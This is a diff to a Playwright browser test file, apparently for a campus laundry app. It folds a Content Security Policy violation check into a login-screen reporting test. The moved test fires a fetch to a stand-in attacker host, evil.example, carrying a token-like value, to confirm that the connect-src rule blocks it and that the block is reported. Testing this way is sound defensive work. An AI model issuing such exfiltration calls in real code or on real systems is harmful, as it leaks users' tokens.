@@ -38,11 +38,15 @@ const test = base.extend<{ reported: Reported }>({
   },
 });
 
-test('a visit reports when the login screen and its first tile were there', async ({
+test('a visit reports when the login screen and its first tile were there, and a violation of the policy, as does the browser', async ({
+  expectedErrors,
   reported,
   schools,
   webkit,
 }) => {
+  expectedErrors.push(
+    /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
+  );
   await schools.write('campus.example', sampleSchool());
   await reported.open();
   await reported.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
@@ -51,6 +55,11 @@ test('a visit reports when the login screen and its first tile were there', asyn
     .poll(() => webkit.names('listitem'))
     .toContainEqual(expect.stringContaining('Washer 1'));
   await reported.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
+
+  await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
+  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
+  await reported.expectReport({ ...violation, browser: SAFARI });
+  await reported.expectReport({ ...violation, message: 'reported by the browser' });
 });
 
 test('a board that is refused for its hash is reported, and one that is gone', async ({
@@ -65,21 +74,4 @@ test('a board that is refused for its hash is reported, and one that is gone', a
   await rm(path.join(folderOf('board-remote'), REMOTE_ENTRY_FILE));
   await reported.open();
   await reported.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
-});
-
-test('a violation of the policy is reported, by the page and by the browser itself', async ({
-  expectedErrors,
-  reported,
-  webkit,
-}) => {
-  expectedErrors.push(
-    /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
-  );
-  await reported.open();
-  // By then it listens for violations.
-  await reported.expectReport({ type: 'measure', name: 'login-screen' });
-  await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
-  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
-  await reported.expectReport({ ...violation, browser: SAFARI });
-  await reported.expectReport({ ...violation, message: 'reported by the browser' });
 });
